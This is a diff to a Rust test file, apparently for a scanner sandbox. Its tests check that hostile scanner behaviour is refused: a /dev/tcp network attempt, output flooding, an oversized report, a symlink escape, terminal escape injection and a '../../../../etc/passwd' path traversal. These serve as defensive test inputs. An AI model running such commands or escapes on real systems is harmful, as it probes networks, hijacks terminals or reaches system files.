@@ -1,10 +1,10 @@
 //! What stops a foreign scanner that lies, and a report of one that says nothing.
 
 use super::{
-    CLEAN, promote, run,
+    CLEAN, layers, promote, run,
     service::{self, Shop},
     twins,
-    world::{self, Ran, World},
+    world::{self, Ran, World, text},
 };
 use plimsoll_model::Digest;
 use std::{fs, os::unix::fs::PermissionsExt as _};
@@ -27,6 +27,84 @@ fn adapted(script: &str, report: &str) -> World {
 fn a13b_a_scanner_that_asks_for_the_network() {
     let world = adapted("bash -c 'echo x > /dev/tcp/192.0.2.1/443' || true", CLEAN);
     twins("network-attempts", &["E-EVIDENCE-TAINTED"], run(&world));
+}
+
+/// Twice as much as it may print, so that it comes to an end.
+#[test]
+fn a13d_a_scanner_that_prints_too_much() {
+    let world = adapted("yes | head -c 33554432", CLEAN);
+    twins("output-limit", &["E-EVIDENCE-ERRORED"], run(&world));
+}
+
+/// An honest report with spaces after it, a byte more than the limit. Whoever takes it out of the sandbox, the signer that
+/// reads it again and the reader of its format each refuse it.
+#[test]
+fn a13e_a_report_that_is_too_large() {
+    let world = adapted("head -c 67108865 /dev/zero | tr '\\0' ' ' >> report/lint.sarif", CLEAN);
+    layers(&["report-file", "report-blob", "report-size"], &["E-EVIDENCE-PARSE"], run(&world));
+}
+
+/// What it leads to is a report that passes, so that a link that is followed does too. A link is a thing of its own, and no
+/// path leads out of the directory that the scanner wrote.
+#[test]
+fn a13j_a_report_that_is_a_link() {
+    let world = World::empty();
+    let target = world.scratch("of-the-machine", CLEAN.as_bytes());
+    let link = adapter(&format!("ln -sf {} report/lint.sarif", target.display()), "");
+    let rest = format!("evidence:\n{link}");
+    world.commit_pipeline(&world::pipeline_with("echo x > out/x", "out: [out]", &rest));
+    let kept = world.blob(&Digest::of(CLEAN.as_bytes()).to_string().into());
+    layers(&["last-link", "beneath"], &["E-EVIDENCE-PARSE"], |without| {
+        assert!(!kept.exists());
+        run(&world)(without)
+    });
+    assert!(kept.exists(), "the file of the machine is in the store");
+}
+
+/// A shop that was refused for what a scanner reports, with escapes in its message and in what it printed. What of them
+/// a person sees is counted as on a terminal, where colours stay.
+#[test]
+fn a13k_a_report_that_drives_a_terminal() {
+    let finding = r#"{"ruleId":"a","level":"error","message":{"text":"\u001b]0;owned\u0007"}}"#;
+    let report = CLEAN.replace("\"results\":[]", &format!("\"results\":[{finding}]"));
+    let shop = Shop::from(&["local"], |world| {
+        world.repository.write_executable("service", &*service::EXECUTABLE);
+        let adapter = adapter(r"printf '\033[2J'", &report);
+        world.repository.write("plimsoll.yaml", service::service_pipeline() + &adapter);
+    });
+    shop.world.change_delivery("environments/local/environment.yaml", |text| {
+        format!("{}\n  scans: {{lint: {{block: error}}}}\n", text.trim_end())
+    });
+    let record = shop.world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-FAILED"]).value();
+    shop.promote().ended(1).refused(&["E-EVIDENCE-FAILED"]);
+    for (control, words, escape) in [
+        ("disarmed", ["logs", text(&record["run"]), "lint"].as_slice(), "\u{1b}[2J"),
+        ("printable", &["why", "shop@local"], "\u{1b}]0;owned\u{7}"),
+    ] {
+        let shows = |without: &[&str]| {
+            let mut command = shop.world.command(&[without, words].concat());
+            Ran::of(command.env("CLICOLOR_FORCE", "1")).ok().stdout.contains(escape)
+        };
+        assert!(!shows(&[]), "{control}");
+        assert!(shows(&["--without-control", control]), "{control}");
+    }
+}
+
+/// The finding itself stops nothing; that it is about another machine's file does.
+#[test]
+fn a13k_a_report_about_a_file_outside() {
+    let finding = r#"{"ruleId":"a","level":"note","message":{"text":"x"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"../../../../etc/passwd"}}}]}"#;
+    let report = CLEAN.replace("\"results\":[]", &format!("\"results\":[{finding}]"));
+    let world = described("input: {kind: source}", "", &report);
+    twins("report-place", &["E-EVIDENCE-SUBJECT"], run(&world));
+}
+
+#[test]
+fn a13l_a_scanner_that_sleeps_longer_than_it_may() {
+    let adapter = adapter("sleep 3", CLEAN).replace("    tool: sh\n", "    tool: sh\n    timeout: 1s\n");
+    let rest = format!("evidence:\n{adapter}");
+    let world = World::new(&world::pipeline_with("echo x > out/x", "out: [out]", &rest));
+    twins("time-limit", &["E-EVIDENCE-ERRORED"], run(&world));
 }
 
 #[test]
@@ -55,6 +133,28 @@ fn a13h_a_report_about_another_revision() {
 fn a31a_an_empty_report() {
     let world = adapted("true", &CLEAN.replace(r#","results":[]"#, ""));
     twins("report-empty", &["E-EVIDENCE-EMPTY"], run(&world));
+}
+
+/// A run whose only evidence is by a scanner of the project that prints this report and, with `more` arguments, looks at
+/// this input.
+fn described(input: &str, more: &str, report: &str) -> World {
+    let manifest = format!(
+        "version: 1\nname: mine\nabout: Nothing\ntool: {{executable: cat, install: apt-get install coreutils}}\n{input}\n\
+         arguments: [\"{{subject}}/mine.sarif\"{more}]\nreport: {{format: sarif, at: stdout}}\n"
+    );
+    let world = World::empty();
+    world.repository.write("mine.yaml", manifest);
+    world.repository.write("mine.sarif", report);
+    let rest = "evidence:\n  - {adapter: mine, manifest: mine.yaml}\n";
+    world.commit_pipeline(&world::pipeline_with("echo x > out/x", "out: [out]", rest));
+    world
+}
+
+/// It reports of files that it was never given, since there is none.
+#[test]
+fn a31b_a_foreign_scanner_that_knows_none_of_the_files() {
+    let world = described("input: {kind: source, files: [\"*.lint\"]}", ", \"{files}\"", CLEAN);
+    twins("adapter-files", &["E-EVIDENCE-EMPTY"], run(&world));
 }
 
 /// A scanner by a manifest of the project, where the environment wants the one that comes with the program.
@@ -104,4 +204,15 @@ fn a31b_a_service_that_nobody_heard_from() {
     twins("service-answers", &["E-EVIDENCE-PARSE"], |without| {
         Ran::of(shop.world.command(&[&["--json"], without, &["run"]].concat()).env("PATH", &path))
     });
+}
+
+/// The first of two lists has the finding, and a reader that takes the last sees none; nor does one that stops where the
+/// report could have ended. What is cut off has no second reading, so there is nothing to remove.
+#[test]
+fn a31h_a_report_that_two_readers_would_not_read_alike() {
+    let finding = r#""results":[{"ruleId":"a","level":"error","message":{"text":"x"}}]"#;
+    let twice = CLEAN.replace("\"results\":[]", &format!("{finding},\"results\":[]"));
+    twins("unique-keys", &["E-EVIDENCE-PARSE"], run(&adapted("true", &twice)));
+    let goes_on = format!("{CLEAN}{}", CLEAN.replace("\"results\":[]", finding));
+    twins("report-end", &["E-EVIDENCE-PARSE"], run(&adapted("true", &goes_on)));
 }
